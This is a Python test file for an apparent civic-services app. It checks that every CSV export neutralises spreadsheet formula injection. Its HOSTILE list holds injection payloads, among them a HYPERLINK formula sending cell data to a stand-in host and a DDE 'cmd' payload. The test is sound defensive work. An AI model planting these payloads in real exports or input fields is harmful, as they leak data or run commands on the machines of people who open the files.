"""The CSV sweep: every export of the product, after citizens and staff have written a
formula into every text field that reaches one, gives no cell a spreadsheet would run.

Driven by the URL map: every GET route that answers a person holding every agency role
with text/csv is an export, so a new one is swept without editing this test. The hostile
values go in through the capabilities' own operations, into the records the route world's
ids name (SEEDERS) and into the agency at large (concerns). An export in which no hostile
value arrives fails the sweep: give its record a seeder here.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from liaison.csv_export import FORMULA_STARTS, safe_filename
from liaison.extensions import db
from liaison.tenancy import tenant_context
from tenants import roles
from tests.fixtures.clock import now, today
from tests.fixtures.route_world import EVERY_AGENCY_ROLE

ASSETS = {"static", "admin.static"}
# What a citizen or staff member might type, each starting the way a formula does (and
# short enough for a phone number; the operations strip a leading tab or carriage return).
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def hostile(n: int) -> str:
    return HOSTILE[n % len(HOSTILE)]


def _concerns(world, values) -> None:
    """A citizen's concern and an officer's, this month, and one from last month that
    progressed this month (the "progressed" rows), hostile in every free field."""
    from liaison.concerns import intake, routing
    from liaison.concerns.models import Concern

    officer = world.users[roles.OFFICER]
    for n in range(len(HOSTILE)):
        fields = {"neighbourhood": hostile(n), "contact_name": hostile(n + 1)}
        details = intake.ConcernDetails(
            "noise", hostile(n + 2), contact_phone=hostile(n + 3), **fields
        )
        intake.raise_concern(details, f"csv-sweep-{n:04d}-key")
        logged = intake.log_concern(details, "call", officer.id, {roles.OFFICER})
    earlier = db.session.get(Concern, logged.id)
    earlier.created_at = now().replace(day=1) - timedelta(days=3)
    routing.add_note(earlier, "Called back.", False, officer.id, {roles.OFFICER})


def _academy(world, values) -> None:
    from liaison.academy import applications
    from liaison.academy.models import Cohort

    cohort = db.session.get(Cohort, values["cohort_id"])
    for n in range(len(HOSTILE)):
        applicant = applications.Applicant(
            full_name=hostile(n),
            date_of_birth=date(1980, 1, 1),
            email=hostile(n + 1),
            phone=hostile(n + 2),
            neighbourhood=hostile(n + 3),
        )
        applications.store_application(cohort, applications.new_submission_key(), applicant)


def _survey(world, values) -> None:
    """Hostile question and option texts and neighbourhoods, and enough hostile answers
    from one neighbourhood for it to be shown (the minimum group size)."""
    from liaison.surveys import answering, builder, lifecycle
    from liaison.surveys.models import Survey

    survey = db.session.get(Survey, values["survey_id"])
    builder.update_settings(survey, neighbourhoods="\n".join(HOSTILE))
    choices = [(text, text) for text in HOSTILE]
    single = builder.add_question(survey, "single", hostile(0), hostile(0), options=choices)
    multiple = builder.add_question(survey, "multiple", hostile(1), hostile(1), options=choices)
    text = builder.add_question(survey, "text", hostile(2), hostile(2))
    place = builder.add_question(survey, "neighbourhood", hostile(3), hostile(3))
    lifecycle.open_survey(survey, ["en", "es"], None, today())
    options = builder.options_by_question(survey)
    questions = builder.questions_of(survey)
    for n in range(survey.min_group_size * 2):
        answers = {
            single.id: str(options[single.id][n % len(HOSTILE)].id),
            multiple.id: [str(o.id) for o in options[multiple.id]],
            text.id: hostile(n),
            place.id: hostile(n % 2),
        }
        answering.save_response(survey, questions, answers, "en", f"csv-sweep-{n}")


# Hostile data for the records a CSV route's id arguments name (None: the agency at large).
SEEDERS = {None: _concerns, "cohort_id": _academy, "survey_id": _survey}


@pytest.fixture
def csv_routes(route_world):
    """{endpoint: path} of every GET route that answers text/csv, its records seeded."""
    client = route_world.client(EVERY_AGENCY_ROLE)
    found = {}
    for rule in route_world.get_rules():
        if rule.endpoint not in ASSETS:
            path = route_world.path(rule)
            if client.get(path).mimetype == "text/csv":
                found[rule.endpoint] = (rule, path)
    with tenant_context(route_world.agency.id, session=db.session):
        SEEDERS[None](route_world, {})
        for rule, _path in found.values():
            values = route_world.values(rule)
            for name in sorted(rule.arguments & SEEDERS.keys()):
                SEEDERS[name](route_world, values)
        db.session.commit()
    return {endpoint: path for endpoint, (_rule, path) in found.items()}


def _cells(response) -> list[str]:
    rows = csv.reader(io.StringIO(response.get_data(as_text=True), newline=""))
    return [cell for row in rows for cell in row]


def test_every_csv_export_is_a_download_in_which_no_cell_starts_a_formula(route_world, csv_routes):
    assert {
        "console.concerns.concerns_monthly_csv",
        "console.academy.academy_export",
        "console.surveys.survey_csv",
    } <= (csv_routes.keys())
    client = route_world.client(EVERY_AGENCY_ROLE)
    armed, unseeded, headers = {}, [], set()
    for endpoint, path in sorted(csv_routes.items()):
        response = client.get(path)
        assert response.status_code == 200, (path, response.status_code)
        headers.add((response.content_type, _disposition_shape(response)))
        cells = _cells(response)
        armed[endpoint] = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        if not any(cell.startswith("'") and cell[1:] in HOSTILE for cell in cells):
            unseeded.append(endpoint)
    assert armed == {endpoint: [] for endpoint in csv_routes}
    assert unseeded == [], "no hostile value reached these exports: add a seeder"
    assert headers == {("text/csv; charset=utf-8", "attachment; safe .csv name")}


def _disposition_shape(response) -> str:
    disposition = response.headers.get("Content-Disposition", "")
    name = disposition.removeprefix('attachment; filename="').removesuffix('"')
    safe = disposition.startswith("attachment; ") and name == safe_filename(name)
    return "attachment; safe .csv name" if safe else disposition
